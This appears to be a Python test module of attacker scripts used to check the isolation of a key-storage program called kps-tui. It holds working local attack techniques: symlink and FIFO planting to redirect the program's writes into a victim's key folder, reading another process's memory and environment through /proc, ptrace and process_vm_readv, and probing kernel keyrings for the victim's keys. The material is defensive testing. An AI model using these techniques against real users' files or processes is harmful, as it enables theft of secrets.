"""What the attacker runs, each a Python script for a process of its own; most print lines `NAME: RESULT`."""

PLANT_STATE = """
import os, sys
state, private, how = sys.argv[1:]
own = os.path.join(state, "kps-tui")
if how == "exchange":
    os.rename(own, own + ".old")
if how == "folder":
    os.mkdir(own)
    os.chmod(own, 0o777)
    database = os.path.join(own, "kps-tui.sqlite3")
    for name in (database, database + "-wal", database + "-shm", database + "-journal", os.path.join(own, "debug.log")):
        os.symlink(os.path.join(private, "keys"), name)
    os.symlink(private, os.path.join(own, "copies"))
else:
    os.symlink(private, own)
"""
"""Arguments: the folder that holds the state folder, the private folder of the victim, and how."""

PLANT_OUTPUTS = """
import os, sys
folder, private = sys.argv[1:]
os.chdir(folder)
os.umask(0)
os.symlink(os.path.join(private, "keys"), "link.csv")
os.symlink(os.path.join(private, "new"), "nothing.csv")
os.symlink(private, "sub")
os.symlink(os.path.join(private, "keys"), ".kps-tui-abcd0123.tmp")
os.mkfifo("fifo.csv", 0o666)
with open("file.csv", "w") as file:
    file.write("theirs")
"""
"""Arguments: the folder for outputs, and the private folder of the victim."""

READ_FIFO = """
import os, sys
reader = os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK)
print("reading", flush=True)
sys.stdin.read()
try:
    print(os.read(reader, 1 << 16).decode())
except BlockingIOError:
    pass
"""
"""Argument: the FIFO. It is read when stdin is closed."""

READ_ALL = """
import os, sys
for folder, _folders, names in os.walk(sys.argv[1], followlinks=True):
    for name in names:
        path = os.path.join(folder, name)
        if os.path.isfile(path):
            try:
                print(open(path, encoding="utf-8", errors="replace").read())
            except OSError:
                pass
"""
"""Argument: a folder, whose files are printed as far as they can be read."""

SNOOP = """
import ctypes, os, sys
pid, canary = int(sys.argv[1]), sys.argv[2].encode()
def say(name, look):
    try:
        found = canary in look()
    except OSError:
        print(f"{name}: refused")
    else:
        print(f"{name}: {'found' if found else 'open'}")
def read(name):
    with open(f"/proc/{pid}/{name}", "rb") as file:
        return file.read()
def memory():
    seen = b""
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in read("maps").splitlines():
            begin, end = (int(text, 16) for text in line.split()[0].split(b"-"))
            if line.endswith((b"[heap]", b"[stack]")):
                file.seek(begin)
                seen += file.read(end - begin)
    return seen
def opened():
    seen = b""
    for name in os.listdir(f"/proc/{pid}/fd"):
        seen += os.readlink(f"/proc/{pid}/fd/{name}").encode()
    return seen
libc = ctypes.CDLL(None, use_errno=True)
def call(function, *arguments):
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return b""
def attach():
    call(libc.ptrace, 16, pid, None, None)
    os.waitpid(pid, 0x40000000)
    return call(libc.ptrace, 17, pid, None, None)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def copy():
    here = ctypes.create_string_buffer(16)
    there = int(read("maps").split(b"-")[0], 16) if os.access(f"/proc/{pid}/maps", os.R_OK) else 0x400000
    ours, theirs = Part(ctypes.addressof(here), 16), Part(there, 16)
    return call(libc.process_vm_readv, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
for name in ("environ", "maps", "smaps", "auxv", "cmdline", "status", "comm"):
    say(name, lambda: read(name))
for name in ("cwd", "exe", "root"):
    say(name, lambda: os.readlink(f"/proc/{pid}/{name}").encode())
say("mem", memory)
say("fd", opened)
say("process_vm_readv", copy)
say("ptrace", attach)
"""
"""Arguments: a process, and what to look for in it."""

ASK_FOR_KEYS = """
import ctypes, errno, sys
from kps_tui.identity.kernel_keyring import _keyctl
uid, canary, keys = int(sys.argv[1]), sys.argv[2].encode(), [int(text, 16) for text in sys.argv[3:]]
(REVOKE, CHOWN, SETPERM, DESCRIBE, CLEAR, LINK, UNLINK, SEARCH, READ, TIMEOUT, INVALIDATE, PERSISTENT) = (
    3, 4, 5, 6, 7, 8, 9, 10, 11, 15, 21, 22)
THREAD, SESSION, SESSIONS = -1, -3, (-2, -3, -4, -5)
def say(name, *call):
    try:
        _keyctl(*call)
    except OSError as error:
        print(f"{name}: {errno.errorcode[error.errno]}")
    else:
        print(f"{name}: found")
buffer = ctypes.create_string_buffer(1 << 16)
say("persistent keyring", PERSISTENT, uid, THREAD)
for number, key in enumerate(keys):
    for name, call in {
        "describe": (DESCRIBE, key, buffer, len(buffer)), "read": (READ, key, buffer, len(buffer)),
        "search": (SEARCH, key, b"user", b"kps-tui:default", 0), "link": (LINK, key, SESSION),
        "set permissions": (SETPERM, key, 0x3F3F3F3F), "take": (CHOWN, key, uid, -1), "clear": (CLEAR, key),
        "revoke": (REVOKE, key), "expire": (TIMEOUT, key, 1), "unlink": (UNLINK, key, keys[1 - number]),
        "invalidate": (INVALIDATE, key),
    }.items():
        say(f"{name} {number}", *call)
for ring in SESSIONS:
    say(f"search in {ring}", SEARCH, ring, b"user", b"kps-tui:default", 0)
"""
"""Arguments: the user who owns the keys, a secret, and their two numbers."""

IN_A_SESSION_OF = """
import os, shlex, subprocess, sys
from kps_tui.identity.kernel_keyring import _keyctl
JOIN_SESSION = 1
victim, attacker, command = int(sys.argv[1]), int(sys.argv[2]), shlex.split(sys.argv[3])
os.setresuid(victim, victim, 0)
_keyctl(JOIN_SESSION, None)
os.setresuid(0, 0, 0)
def run(uid, *command):
    return subprocess.run(command, user=uid, group=uid, extra_groups=[], stdout=subprocess.PIPE, check=True).stdout
run(victim, sys.executable, "-m", "kps_tui", "count")
print(run(attacker, *command).decode(), end="")
"""
"""Arguments: two users and a command. The second runs it, as with `sudo -u`, in a session where the first has used the
program."""
